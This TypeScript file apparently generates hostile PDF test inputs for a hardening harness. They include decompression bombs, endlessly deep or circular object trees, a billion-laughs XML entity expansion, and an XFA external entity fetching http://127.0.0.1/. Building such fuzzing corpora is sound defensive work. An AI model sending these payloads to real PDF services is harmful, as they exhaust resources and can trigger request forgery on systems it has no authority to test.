import { deflateSync } from 'node:zlib'
import type { Attack } from './attack.ts'
import { catalog, helvetica, page, pages, pdf, stream } from './raw-pdf.ts'
import { zlibRun } from './raw-zip.ts'

const word = stream('', 'BT /F1 9 Tf 50 50 Td (Dear Ada) Tj ET')
const fonts = '/Font << /F1 5 0 R >>'

/** One page with a word, more in the catalog, and more objects from number 6 on. */
const withCatalog = (more: string, objects: readonly (string | Uint8Array)[]): Buffer =>
  pdf([catalog.replace(' >>', ` ${more} >>`), pages, page(fonts), word, helvetica, ...objects])

/** One page with more in its dictionary. */
const withPage = (more: string, objects: readonly (string | Uint8Array)[] = []): Buffer =>
  pdf([catalog, pages, page(fonts).replace(/ >>$/, ` ${more} >>`), word, helvetica, ...objects])

const references = (from: number, count: number): string =>
  Array.from({ length: count }, (_, n) => `${from + n} 0 R`).join(' ')

/** Each object points to the next. */
const chain = (length: number, link: (next: string) => string): string[] =>
  Array.from({ length }, (_, n) => link(n + 1 === length ? 'null' : `${7 + n} 0 R`))

/** A file in a file in a file; each holds two copies of the one before. */
function filesInFiles(levels: number): Buffer {
  let inner = pdf([catalog, pages, page(fonts), word, helvetica])
  for (let level = 0; level < levels; level++) {
    inner = withCatalog('/Names << /EmbeddedFiles << /Names [(a.pdf) 6 0 R (b.pdf) 6 0 R] >> >>', [
      '<< /Type /Filespec /F (a.pdf) /UF (a.pdf) /EF << /F 7 0 R >> >>',
      stream('/Type /EmbeddedFile /Filter /FlateDecode', deflateSync(inner)),
    ])
  }
  return inner
}

const picture = (width: number, height: number, filter: string, data: Uint8Array): Buffer =>
  stream(
    `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 8 /ColorSpace /DeviceGray ${filter}`,
    data,
  )
const drawsPicture = (image: Uint8Array, times = 1): Buffer =>
  pdf([
    catalog,
    pages,
    page('/XObject << /X 5 0 R >>'),
    stream('', 'q 500 0 0 500 0 0 cm /X Do Q '.repeat(times)),
    image,
  ])

/** PDF files whose trees, tables and embedded things are the attack. */
export function* pdfStructureAttacks(): Generator<Attack> {
  const attack = (name: string, bytes: Uint8Array): Attack => ({ name: `pdf: ${name}`, bytes, filename: 'a.pdf' })
  yield attack('files in files, 12 levels of two', filesInFiles(12))
  yield attack(
    '10,000 attachments that are one',
    withCatalog(`/Names << /EmbeddedFiles << /Names [${'(a) 6 0 R '.repeat(10_000)}] >> >>`, [
      '<< /Type /Filespec /F (a.txt) /EF << /F 7 0 R >> >>',
      stream('/Type /EmbeddedFile', 'Dear'),
    ]),
  )
  yield attack(
    'an attachment of 400 MB of zeros',
    withCatalog('/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>', [
      '<< /Type /Filespec /F (a.txt) /EF << /F 7 0 R >> >>',
      stream('/Type /EmbeddedFile /Filter /FlateDecode', zlibRun(400)),
    ]),
  )
  yield attack(
    'names of files in a circle',
    withCatalog('/Names << /EmbeddedFiles 6 0 R >>', ['<< /Kids [6 0 R 6 0 R] /Names [(a) 6 0 R] >>']),
  )
  yield attack(
    'an outline of 20,000 entries',
    withCatalog('/Outlines 6 0 R', [
      '<< /First 7 0 R /Last 7 0 R >>',
      ...Array.from({ length: 20_000 }, (_, n) => `<< /Title (a) /Parent 6 0 R /Next ${8 + n} 0 R >>`),
    ]),
  )
  yield attack(
    'an outline 10,000 deep',
    withCatalog(
      '/Outlines 6 0 R',
      chain(10_000, (next) => `<< /Title (a) /First ${next} /Last ${next} >>`),
    ),
  )
  yield attack(
    '20,000 form fields',
    withCatalog(
      `/AcroForm << /Fields [${references(6, 20_000)}] >>`,
      Array.from({ length: 20_000 }, () => '<< /T (a) /FT /Tx /V (b) /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R >>'),
    ),
  )
  yield attack(
    'form fields 10,000 deep',
    withCatalog(
      '/AcroForm << /Fields [6 0 R] >>',
      chain(10_000, (next) => `<< /T (a) /Kids [${next}] >>`),
    ),
  )
  yield attack(
    'a form of XFA',
    withCatalog('/AcroForm << /Fields [] /XFA 6 0 R >>', [
      stream('', '<!DOCTYPE a [<!ENTITY b SYSTEM "http://127.0.0.1/">]><xdp:xdp>&b;</xdp:xdp>'),
    ]),
  )
  yield attack(
    'a tree of structure 10,000 deep',
    withCatalog(
      '/MarkInfo << /Marked true >> /StructTreeRoot << /Type /StructTreeRoot /K 6 0 R >>',
      chain(10_000, (next) => `<< /Type /StructElem /S /P /Pg 3 0 R /K [${next} 0] >>`),
    ),
  )
  yield attack(
    'a tree of structure that is its own branch',
    withCatalog('/MarkInfo << /Marked true >> /StructTreeRoot << /Type /StructTreeRoot /K [6 0 R 6 0 R] >>', [
      '<< /Type /StructElem /S /Table /Pg 3 0 R /K [6 0 R 6 0 R 0] >>',
    ]),
  )
  yield attack(
    'roles that stand for each other',
    withCatalog(
      '/MarkInfo << /Marked true >> /StructTreeRoot << /Type /StructTreeRoot /RoleMap << /A /B /B /A >> /K 6 0 R >>',
      ['<< /Type /StructElem /S /A /Pg 3 0 R /K 0 >>'],
    ),
  )
  yield attack('a page that is its own parent', pdf([catalog, pages, page(fonts).replace('2 0 R', '3 0 R'), word]))
  yield attack(
    '20,000 annotations',
    withPage(
      `/Annots [${'<< /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (http://127.0.0.1/) >> >> '.repeat(20_000)}]`,
    ),
  )
  yield attack(
    'an annotation that draws itself',
    withPage('/Annots [<< /Subtype /Stamp /Rect [0 0 99 99] /AP << /N 6 0 R >> >>]', [
      stream('/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>', '/X Do /X Do'),
    ]),
  )
  yield attack(
    'a description of the file that laughs',
    withCatalog('/Metadata 6 0 R', [
      stream(
        '/Type /Metadata /Subtype /XML',
        `<!DOCTYPE a [<!ENTITY a "ha">${'bcdefghijk'.replaceAll(/./g, (c) => `<!ENTITY ${c} "${`&${String.fromCharCode(c.charCodeAt(0) - 1)};`.repeat(10)}">`)}]><x:xmpmeta>&k;</x:xmpmeta>`,
      ),
    ]),
  )
  yield attack(
    'page labels beyond all numbers',
    withCatalog('/PageLabels << /Nums [0 << /S /r /St 2147483647 >> 99999999 << /S /A /St -5 >>] >>', []),
  )
  yield attack('a page turned by 45 degrees', withPage('/Rotate 45 /UserUnit 1e30'))
  yield attack('contents that are one stream 20,000 times', withPage(`/Contents [${'4 0 R '.repeat(20_000)}]`))
  yield attack(
    'glyphs that draw glyphs',
    pdf([
      catalog,
      pages,
      page(fonts),
      stream('', `BT /F1 9 Tf (${'a'.repeat(1000)}) Tj ET`),
      '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>',
      stream('', '9 0 d0 BT /F1 9 Tf (aaaaaaaaaa) Tj ET'),
    ]),
  )
  yield attack(
    'tiles that are made of tiles',
    pdf([
      catalog,
      pages,
      page('/Pattern << /P 5 0 R >>'),
      stream('', '/Pattern cs /P scn 0 0 500 500 re f'),
      stream(
        '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 5 0 R >> >>',
        '/Pattern cs /P scn 0 0 1 1 re f',
      ),
    ]),
  )
  yield attack(
    'a shade computed by brackets',
    pdf([
      catalog,
      pages,
      page('/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Function 5 0 R >> >>'),
      stream('', '/S sh'),
      stream('/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]', '{'.repeat(50_000)),
    ]),
  )
  yield attack(
    'a picture of 400 MB of zeros',
    drawsPicture(picture(20_000, 20_000, '/Filter /FlateDecode', zlibRun(400))),
  )
  yield attack(
    'a picture drawn 10,000 times',
    drawsPicture(picture(2000, 2000, '/Filter /FlateDecode', zlibRun(4)), 10_000),
  )
  yield attack(
    'a picture masked by itself',
    drawsPicture(picture(9, 9, '/SMask 5 0 R /Mask 5 0 R /Filter /FlateDecode', zlibRun(1))),
  )
  yield attack(
    'a picture of JBIG2 noise',
    drawsPicture(picture(9999, 9999, '/Filter /JBIG2Decode', Buffer.alloc(9999, 7))),
  )
  yield attack(
    'a picture of JPEG 2000 noise',
    drawsPicture(picture(9999, 9999, '/Filter /JPXDecode', Buffer.from('0000000c6a5020200d0a870a', 'hex'))),
  )
  yield attack(
    'a fax of no end',
    drawsPicture(
      picture(
        65_535,
        65_535,
        '/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 65535 /Rows 65535 >>',
        Buffer.alloc(9999),
      ),
    ),
  )
  yield attack(
    'codes of LZW that never end',
    pdf([catalog, pages, page(fonts), stream('/Filter /LZWDecode', Buffer.alloc(1_000_000, 0x80)), helvetica]),
  )
  yield attack(
    'lengths of runs that never end',
    pdf([catalog, pages, page(fonts), stream('/Filter /RunLengthDecode', Buffer.alloc(2_000_000, 0x81)), helvetica]),
  )
  yield attack(
    'a map of characters that uses itself',
    pdf([
      catalog,
      pages,
      page(fonts),
      stream('', 'BT /F1 9 Tf <0041> Tj ET'),
      '<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding 6 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /A >>] /ToUnicode 6 0 R >>',
      stream('/Type /CMap /UseCMap 6 0 R', '/A usecmap '.repeat(10_000)),
    ]),
  )
}
